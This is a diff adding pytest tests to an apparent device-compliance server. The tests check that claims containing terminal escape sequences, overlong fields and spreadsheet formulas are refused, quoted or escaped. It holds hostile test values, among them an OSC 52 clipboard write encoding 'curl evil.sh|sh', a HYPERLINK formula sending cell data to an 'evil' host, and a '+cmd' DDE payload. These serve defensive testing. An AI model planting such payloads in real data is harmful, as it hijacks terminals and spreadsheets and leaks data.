@@ -214,3 +214,76 @@ def test_publishing_a_policy_reevaluates_the_fleet_at_once(srv, tmp_path):
     assert r.returncode == 1 and "already published with other content" in r.stderr, r
     assert verdict(srv, a) == [("noncompliant",)]
 
+
+# ---- 3. claims are data ------------------------------------------------------------
+
+@pytest.mark.parametrize("where,value", [
+    ("title", "Backup\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"),      # OSC 52: write the clipboard
+    ("summary", "ok\x1b[2K\x1b[1A\rall good"),                  # erase and overwrite a line
+    ("summary", "ok\u009b2K"),                                 # the same with a C1 CSI
+    ("remediation", "run \x7f this"),
+    ("evidence", {"path": "/\x1b[31m"}),
+    ("evidence", {"na\nme": "x"}),
+    ("id", "Disk-Encryption"),
+    ("id", "=HYPERLINK(\"http://evil\")"),
+    ("id", "a" * 65),
+    ("title", "t" * 129),
+    ("hostname", "laptop\x1b[8m"),
+    ("hostname", "laptop\u0085"),
+])
+def test_markup_in_claims_is_refused(srv, where, value):
+    dev = Device(srv)
+    assert dev.enroll(srv.token())[0] == 201
+    claims = dev.claims()
+    if where == "hostname":
+        claims["host"]["hostname"] = value
+    else:
+        claims["checks"][1][where] = value
+    status, body = dev.post(dev.sign(claims))
+    assert (status, body["error"]) == (400, "invalid_claims"), body
+    assert srv.count("reports") == 0 and srv.count("latest") == 0
+    # Newlines are fine where people read the text.
+    claims = dev.claims()
+    claims["checks"][1]["summary"] = "2 updates:\nlinux-image\nopenssl"
+    claims["checks"][1]["remediation"] = "Run:\n  sudo apt upgrade"
+    assert dev.post(dev.sign(claims))[0] == 202
+
+
+def test_csv_cells_are_neutralised_in_both_exports(tmp_path):
+    from fleet_util import NOW, Device as FleetDevice, FleetServer
+    import csv
+    import io
+    s = FleetServer(tmp_path).start(now=NOW)
+    try:
+        token = s.token()
+        for name in ("=HYPERLINK(\"http://evil/\"&A1)", "-2+3", "+cmd|' /C calc'!A0", "@SUM(A1)", "plain"):
+            FleetDevice(s, name).enroll(token).send()
+        st, _, body = s.request("GET", "/v1/fleet/export?format=csv")
+        assert st == 200
+        cells = [row[1] for row in csv.reader(io.StringIO(body.decode()))][1:]
+        r = s.ctl("devices", "--csv", "--sort", "hostname")
+        assert r.returncode == 0, r
+        ctl_cells = [row[1] for row in csv.reader(io.StringIO(r.stdout))][1:]
+        for got in (cells, ctl_cells):
+            assert sorted(got) == sorted(["'=HYPERLINK(\"http://evil/\"&A1)", "'-2+3", "'+cmd|' /C calc'!A0",
+                                          "'@SUM(A1)", "plain"]), got
+    finally:
+        s.stop()
+
+
+def test_vigiectl_escapes_what_it_prints(srv, tmp_path):
+    """Defence in depth: a control character already in the database (an old row, a
+    restored backup) reaches the terminal escaped."""
+    from fleet_util import NOW, Device as FleetDevice, FleetServer
+    s = FleetServer(tmp_path / "f").start(now=NOW)
+    try:
+        d = FleetDevice(s, "laptop").enroll(s.token())
+        d.send()
+        s.write("UPDATE latest SET hostname = $1", "evil\x1b]52;c;ZWNobyBoaQ==\x07\u009b2J")
+        for args in (("devices",), ("device", d.id)):
+            r = s.ctl(*args)
+            assert r.returncode == 0, r
+            assert "\x1b" not in r.stdout and "\x07" not in r.stdout and "\u009b" not in r.stdout
+            assert "evil\\e]52;c;ZWNobyBoaQ==\\x07\\x9b2J" in r.stdout, r.stdout
+    finally:
+        s.stop()
